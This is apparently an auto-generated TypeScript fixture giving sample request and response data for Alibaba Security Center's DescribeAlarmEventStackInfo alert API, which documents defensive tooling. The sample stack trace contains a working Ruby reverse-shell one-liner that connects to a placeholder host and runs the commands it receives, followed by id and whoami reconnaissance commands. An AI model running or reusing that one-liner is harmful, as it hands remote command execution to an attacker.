// Generated from specs/alibaba/sas-2018-12-03 by `npm run generate`. Do not edit.

import type {
  DescribeAlarmEventStackInfoInput,
  DescribeAlarmEventStackInfoOutput,
} from "../../src/operations/DescribeAlarmEventStackInfo.gen.js";

export const describeAlarmEventStackInfoInput_parameters = {
  EventName: "Variable Trojan",
  Lang: "zh",
  SourceIp: "192.168.XX.XX",
  UniqueInfo: "1fbe8d16727f61d1478a674d6fa0****",
  Uuid: "18b7336e-d469-473b-af83-8e5420f9****",
} satisfies DescribeAlarmEventStackInfoInput;

export const describeAlarmEventStackInfoOutput_example1 = {
  StackInfo:
    '[\n    {\n        "child": [\n            {\n                "child": [\n                    {\n                        "child": [\n                            \n                        ],\n                        "data": {\n                            "cmdline": "id",\n                            "proc_path": "/bin/id",\n                            "pid": "[3033]"\n                        },\n                        "description": {\n                            "extend": [\n                                \n                            ],\n                            "main": {\n                                "content": "${pid} ${cmdline}",\n                                "content_type": "markdown"\n                            }\n                        }\n                    },\n                    {\n                        "child": [\n                            \n                        ],\n                        "data": {\n                            "cmdline": "whoami",\n                            "proc_path": "/bin/whoami",\n                            "pid": "[3035]"\n                        },\n                        "description": {\n                            "extend": [\n                                \n                            ],\n                            "main": {\n                                "content": "${pid} ${cmdline}",\n                                "content_type": "markdown"\n                            }\n                        }\n                    }\n                ],\n                "data": {\n                    "cmdline": "/bin/bash -c \'id && whoami\'",\n                    "proc_path": "/bin/bash",\n                    "pid": "[3022]"\n                },\n                "description": {\n                    "extend": [\n                        \n                    ],\n                    "main": {\n                        "content": "${pid} ${cmdline}",\n                        "content_type": "markdown"\n                    }\n                }\n            }\n        ],\n        "data": {\n            "src_ip": "0.0.0.0",\n            "cmdline": "ruby -rsocket -e exit if fork;c=TCPSocket.new(\\"0.0.0.0\\",\\"1111\\");while(cmd=c.gets);IO.popen(cmd,\\"r\\"){|io|c.print io.read}end",\n            "file": "ruby",\n            "login_port": "22",\n            "login_type": "password",\n            "proc_path": "/usr/bin/ruby",\n            "dst_port": "1111",\n            "pid": "3011",\n            "user": "root",\n            "dst_ip": "0.0.0.0",\n            "log_time": "2020-01-20 09:00:00"\n        },\n        "description": {\n            "extend": [\n                {\n                    "content": "${tpl_netstat}",\n                    "content_type": "text"\n                }\n            ],\n            "main": {\n                "content": "${pid} ${cmdline}",\n                "content_type": "markdown"\n            }\n        }\n    }\n]',
  RequestId: "ECC6B3E3-D496-512D-B46D-E6996A6B63EE",
} satisfies DescribeAlarmEventStackInfoOutput;
